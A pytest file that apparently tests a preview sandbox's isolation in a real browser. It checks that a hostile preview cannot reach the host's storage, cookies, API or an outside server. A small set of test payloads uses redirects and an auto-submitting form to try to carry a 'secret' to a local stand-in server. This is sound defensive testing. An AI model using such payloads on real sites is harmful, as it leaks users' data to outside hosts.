"""A hostile preview in a real browser, in the frame and in its own tab: what it reaches of the host, and of the world."""

import http.server
import json
import threading
from pathlib import Path

import httpx
import pytest

from core.errors import NotFound

HOSTILE = (Path(__file__).parent / "apps" / "hostile.html").read_bytes()


@pytest.fixture(scope="module")
def outside():
    """Somebody else's server; `.seen` are the paths it was asked for."""

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            server.seen.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *words):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.seen = []
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


def hostile_results(page, document) -> dict:
    element = document.locator("#results")
    for _ in range(200):
        text = element.text_content()
        if text.startswith("{"):
            return json.loads(text)
        page.wait_for_timeout(100)
    raise AssertionError("the hostile page never finished")


@pytest.mark.parametrize("place", ["in the frame", "in its own tab"])
def test_a_hostile_preview_reaches_nothing(browser, house, outside, place):
    app = house.start({"index.html": HOSTILE}, "static")
    house.api_calls.clear()
    outside.seen.clear()
    context = browser.new_context()
    page = context.new_page()
    address = f"{app.url}?outside=http://127.0.0.1:{outside.server_port}"
    try:
        page.goto(f"{house.base}/host")  # the host's storage and cookies are there
        assert page.evaluate("localStorage.getItem('key')") == "sk-host-key"
        if place == "in the frame":
            page.goto(f"{house.base}/host?app={address}")
            results = hostile_results(page, page.frame_locator("#app"))
            assert page.url.startswith(house.base)
            page.evaluate("document.getElementById('app').contentWindow.postMessage('x', '*')")
        else:
            page.goto(house.base + address)
            results = hostile_results(page, page)
    finally:
        context.close()
        house.stop(app)
    assert results.pop("origin") == "null"
    got = {name: result for name, result in results.items() if result.startswith("GOT")}
    assert got == {}
    assert house.api_calls == []
    assert outside.seen == []
    assert "TypeError" in results["api"] and "TypeError" in results["outsideWorker"]  # the workers ran, and were refused
    for name in ("nativeStorage", "nativeCookie", "api", "bareSocket", "outsideWorker", "worker", "database"):
        assert results[name].startswith("blocked"), (name, results[name])


LEAVING = {
    "link": "<script>location.href = '%s'</script>",
    "form": "<form method=post action='%s'><input name=a value=secret></form><script>document.forms[0].submit()</script>",
    "top": "<script>top.location.href = '%s'</script>",
}


@pytest.mark.parametrize("way", LEAVING)
def test_navigating_away_carries_nothing_out(browser, house, outside, way):
    target = f"http://127.0.0.1:{outside.server_port}/navigated?secret"
    app = house.start({"index.html": (LEAVING[way] % target).encode()}, "static")
    outside.seen.clear()
    page = browser.new_page()
    try:
        page.goto(house.page(app))
        page.wait_for_timeout(700)
    finally:
        page.close()
        house.stop(app)
    assert outside.seen == []


SHIMMED = b"""<!doctype html><html><head></head><body><p id=results></p><script type=module>
import { value } from "/lib/module.js";
localStorage.setItem("a", 1); localStorage.b = "2"; sessionStorage.setItem("c", 3);
document.cookie = "x=1";
const text = await (await fetch("/data.txt")).text();
const asked = await new Promise((done) => { const x = new XMLHttpRequest(); x.open("GET", "/data.txt"); x.onload = () => done(x.responseText); x.send(); });
const own = await (await fetch("data.txt")).text();
document.getElementById("results").textContent = JSON.stringify({value, text, asked, own, a: localStorage.getItem("a"), b: localStorage.b,
  c: sessionStorage.c, length: localStorage.length, none: localStorage.getItem("none"), image: document.images[0].naturalWidth});
</script><img src="/dot.svg"></body></html>"""


def test_a_page_written_for_the_root_of_a_site_works_below_the_mount(browser, house):
    files = {
        "index.html": SHIMMED,
        "lib/module.js": b"export const value = 42;",
        "data.txt": b"words",
        "dot.svg": b'<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"></svg>',
    }
    app = house.start(files, "static")
    page = browser.new_page()
    errors = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    try:
        page.goto(house.page(app))
        results = hostile_results(page, page.frame_locator("#app"))
    finally:
        page.close()
        house.stop(app)
    assert results == {
        "value": 42, "text": "words", "asked": "words", "own": "words",
        "a": "1", "b": "2", "c": "3", "length": 2, "none": None, "image": results["image"],
    }  # fmt: skip
    assert errors == []


def test_the_shim_is_small():
    from core.preview.documents import shim

    assert len(shim("/p/" + "x" * 33, absolute=True)) <= 2048


def test_a_stopped_preview_is_gone_for_good(house):
    app = house.start({"index.html": b"here"}, "static")
    assert httpx.get(house.url(app)).text.endswith("here")
    house.stop(app)
    assert httpx.get(house.url(app)).status_code == 404
    assert house.previews.get(app.id).stage == "stopped"
    with pytest.raises(NotFound):
        house.previews.get(app.id, owner="somebody else")
